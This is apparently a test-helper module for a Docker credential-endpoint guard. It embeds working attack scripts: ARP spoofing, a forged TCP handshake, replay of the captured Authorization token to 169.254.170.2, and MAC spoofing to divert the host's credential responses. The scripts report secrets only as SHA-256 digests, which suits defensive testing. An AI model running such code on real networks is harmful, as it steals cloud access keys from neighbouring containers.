"""The neighbour attack on the docker network, as programs run in containers: a thief that
claims 169.254.170.2 over ARP (docker's default capabilities include NET_RAW) and answers the
victim's TCP handshake itself, and a victim that keeps fetching its binding's credentials.

Both print one JSON line. Neither prints a secret: tokens and keys are reported as SHA-256
digests, which the test compares with the victim's own."""

# argv: victim IP, container port. It prints "ready" once it listens, and stops when its
# stdin closes (or a whole request head came, or after two minutes). The thief answers only
# the victim (its fixed --ip), so other containers on the shared test network are left
# alone. It counts
# every byte of TCP payload from the victim to 169.254.170.2 it sees, answers the victim's
# SYN as 169.254.170.2 would (a hand-made SYN-ACK: it cannot own that address without
# NET_ADMIN), and once a whole request head came, replays it to the real 169.254.170.2.
THIEF = r"""
import hashlib, json, os, select, socket, struct, sys, time
victim_ip, port = sys.argv[1], int(sys.argv[2])
GW, VICTIM = socket.inet_aton("169.254.170.2"), socket.inet_aton(victim_ip)
raw = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))
raw.bind(("eth0", 0))
raw.settimeout(0.05)
me = raw.getsockname()[4]
print("ready", flush=True)

def csum(data):
    data += b"\0" * (len(data) % 2)
    s = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while s >> 16:
        s = (s & 0xFFFF) + (s >> 16)
    return ~s & 0xFFFF

def arp_claim(mac):
    # "169.254.170.2 is at my MAC", to the victim
    arp = struct.pack("!HHBBH", 1, 0x0800, 6, 4, 2) + me + GW + mac + VICTIM
    return mac + me + b"\x08\x06" + arp

def tcp(mac, sport, dport, seq, ack, flags):
    head = struct.pack("!HHIIBBHHH", sport, dport, seq, ack, 5 << 4, flags, 65535, 0, 0)
    pseudo = GW + VICTIM + struct.pack("!BBH", 0, 6, len(head))
    head = head[:16] + struct.pack("!H", csum(pseudo + head)) + head[18:]
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 20 + len(head), 0, 0x4000, 64, 6, 0, GW, VICTIM)
    ip = ip[:10] + struct.pack("!H", csum(ip)) + ip[12:]
    return mac + me + b"\x08\x00" + ip + head

victim_mac, seen_arp, stolen, request, last_claim = None, 0, 0, b"", 0.0
deadline = time.monotonic() + 120
while time.monotonic() < deadline and b"\r\n\r\n" not in request:
    if select.select([sys.stdin], [], [], 0)[0]:
        break  # stdin closed: the victim is done
    if victim_mac and time.monotonic() - last_claim > 0.05:
        raw.send(arp_claim(victim_mac))  # again and again: the victim's cache ages
        last_claim = time.monotonic()
    try:
        frame = raw.recv(65535)
    except socket.timeout:
        continue
    kind = frame[12:14]
    if kind == b"\x08\x06" and frame[28:32] == VICTIM and frame[38:42] == GW:
        seen_arp += 1
        victim_mac = frame[6:12]
        if frame[20:22] == b"\x00\x01":  # a who-has: answer it at once
            raw.send(arp_claim(victim_mac))
    if kind != b"\x08\x00" or frame[26:30] != VICTIM or frame[30:34] != GW or frame[23] != 6:
        continue
    ip_len, ihl = struct.unpack("!H", frame[16:18])[0], (frame[14] & 15) * 4
    segment = frame[14 + ihl : 14 + ip_len]
    sport, dport, seq = struct.unpack("!HHI", segment[:8])
    flags, payload = segment[13], segment[(segment[12] >> 4) * 4 :]
    stolen += len(payload)
    if flags & 0x02 and dport == port:  # SYN: be 169.254.170.2
        raw.send(tcp(frame[6:12], dport, sport, 1000, seq + 1, 0x12))
    elif payload:
        request += payload
        raw.send(tcp(frame[6:12], dport, sport, 1001, seq + len(payload), 0x10))

report = {"arp_requests_seen": seen_arp, "payload_bytes": stolen, "token_sha": None,
          "key_sha": None}
if b"\r\n\r\n" in request:
    head = request.split(b"\r\n\r\n")[0].decode()
    token = next(l.split(":", 1)[1].strip() for l in head.split("\r\n")
                 if l.lower().startswith("authorization:"))
    report["token_sha"] = hashlib.sha256(token.encode()).hexdigest()
    # Replay what the victim sent, to the real 169.254.170.2, as the thief's own request.
    lines = [l for l in head.split("\r\n") if not l.lower().startswith("connection:")]
    s = socket.create_connection(("169.254.170.2", port), timeout=10)
    s.sendall(("\r\n".join(lines) + "\r\nConnection: close\r\n\r\n").encode())
    answer = b""
    while chunk := s.recv(65536):
        answer += chunk
    body = answer.split(b"\r\n\r\n", 1)[1]
    if b"AccessKeyId" in body:
        key = json.loads(body)["AccessKeyId"]
        report["key_sha"] = hashlib.sha256(key.encode()).hexdigest()
print(json.dumps(report))
"""

# argv: attempts. Each attempt is one fetch of the binding's credentials, as an SDK makes it
# (FULL_URI and the token from the environment), on a new connection; the victim keeps on
# for long enough that its ARP cache entry for 169.254.170.2 ages and can be overwritten.
VICTIM = r"""
import hashlib, json, os, sys, time, urllib.request
url = os.environ["AWS_CONTAINER_CREDENTIALS_FULL_URI"]
token = os.environ["AWS_CONTAINER_AUTHORIZATION_TOKEN"]
ok, failed, key = 0, 0, None
for _ in range(int(sys.argv[1])):
    try:
        request = urllib.request.Request(url, headers={"Authorization": token})
        with urllib.request.urlopen(request, timeout=1) as answer:
            key = json.load(answer)["AccessKeyId"]
            ok += 1
    except OSError:
        failed += 1
    time.sleep(0.2)
print(json.dumps({"ok": ok, "failed": failed,
                  "token_sha": hashlib.sha256(token.encode()).hexdigest(),
                  "key_sha": key and hashlib.sha256(key.encode()).hexdigest()}))
"""

# The attack on the host's side: a thief that claims the *victim's* address to the host.
# argv: victim IP, container port, how: "arp" or "mac". It prints "ready" and its own
# address, then until its stdin closes (or after two minutes) it keeps on, every 1 ms:
# - arp: telling the host that the victim's address is at the thief's MAC (ARP who-has
#   169.254.170.2 from the victim's address, which the host believes at once, and gratuitous
#   replies), 5 ms out of 10; the other 5 ms, that it is at the victim's MAC, so the
#   victim's handshakes get through and the daemon's answers to its requests may come here;
# - mac: sending IPv4 frames from its own address with the victim's MAC as source, which
#   teach the bridge that the victim's MAC is behind the thief's port (they go to the
#   thief's own MAC, so the bridge forwards them nowhere): the host's next frames to the
#   victim come to the thief instead.
# It counts the frames from 169.254.170.2 to the victim that reach it and their bytes of TCP
# payload from the last line read on stdin on (the test's signal that the victim starts; what
# came before may be the host's retransmissions of an earlier attack's answers), and reports
# the SHA-256 of each access key id found in them: the daemon's answer.
HOST_THIEF = r"""
import hashlib, json, re, select, socket, struct, sys, time
victim_ip, port, how = sys.argv[1], int(sys.argv[2]), sys.argv[3]
GW, VICTIM = socket.inet_aton("169.254.170.2"), socket.inet_aton(victim_ip)
probe = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
probe.connect(("169.254.170.2", 9))  # sends nothing: it only picks this container's address
MINE = socket.inet_aton(probe.getsockname()[0])
raw = socket.socket(socket.AF_PACKET, socket.SOCK_RAW, socket.htons(3))
raw.bind(("eth0", 0))
me = raw.getsockname()[4]
victim_mac = b"\x02\x42" + VICTIM  # dockerd 20.10 derives a container's MAC from its address
BROADCAST = b"\xff" * 6
print("ready", socket.inet_ntoa(MINE), flush=True)

def csum(data):
    s = sum(struct.unpack(f"!{len(data) // 2}H", data))
    while s >> 16:
        s = (s & 0xFFFF) + (s >> 16)
    return ~s & 0xFFFF

def arp(mac, op, target_mac, target_ip):
    body = struct.pack("!HHBBH", 1, 0x0800, 6, 4, op) + mac + VICTIM + target_mac + target_ip
    return BROADCAST + me + b"\x08\x06" + body

def claims(mac):
    return (arp(mac, 1, b"\0" * 6, GW), arp(mac, 2, BROADCAST, VICTIM))

def spoofed_source():
    udp = struct.pack("!HHHH", 40000, 9, 8, 0)
    ip = struct.pack("!BBHHHBBH4s4s", 0x45, 0, 28, 0, 0x4000, 64, 17, 0, MINE, GW)
    ip = ip[:10] + struct.pack("!H", csum(ip)) + ip[12:]
    return me + victim_mac + b"\x08\x00" + ip + udp

sent, frames, stolen, payload, last = 0, 0, 0, b"", 0.0
deadline = time.monotonic() + 120
while time.monotonic() < deadline:
    if select.select([sys.stdin], [], [], 0)[0]:
        if not sys.stdin.readline():
            break  # stdin closed: the victim is done
        sent, frames, stolen, payload = 0, 0, 0, b""  # "count": what came before is not ours
    if time.monotonic() - last > 0.001:
        # arp: 5 ms the victim's own MAC (so its handshake gets through), 5 ms the thief's
        # (so the daemon's answer comes here)
        mine = int(time.monotonic() * 200) % 2
        for frame in claims(me if mine else victim_mac) if how == "arp" else (spoofed_source(),):
            raw.send(frame)
            sent += 1
        last = time.monotonic()
    if not select.select([raw], [], [], 0.0005)[0]:
        continue
    frame, where = raw.recvfrom(65535)
    if where[2] == socket.PACKET_OUTGOING:
        continue
    kind = frame[12:14]
    if kind == b"\x08\x06" and frame[28:32] == VICTIM:
        victim_mac = frame[22:28]  # the victim's own ARP: its real MAC
    if kind != b"\x08\x00" or frame[26:30] != GW or frame[30:34] != VICTIM:
        continue
    frames += 1
    if frame[23] != 6:
        continue
    ip_len, ihl = struct.unpack("!H", frame[16:18])[0], (frame[14] & 15) * 4
    segment = frame[14 + ihl : 14 + ip_len]
    data = segment[(segment[12] >> 4) * 4 :]
    stolen += len(data)
    if len(payload) < 1 << 20:
        payload += data

keys = set(re.findall(rb'"AccessKeyId"\s*:\s*"([A-Z0-9]+)"', payload))
print(json.dumps({"claims_sent": sent, "frames": frames, "payload_bytes": stolen,
                  "key_shas": sorted(hashlib.sha256(k).hexdigest() for k in keys)}))
"""

# VICTIM, started before it may begin: it waits for a line on stdin (the test sends it once
# the guard has registered the container), then fetches as VICTIM does.
GATED_VICTIM = "import sys\nsys.stdin.readline()\n" + VICTIM
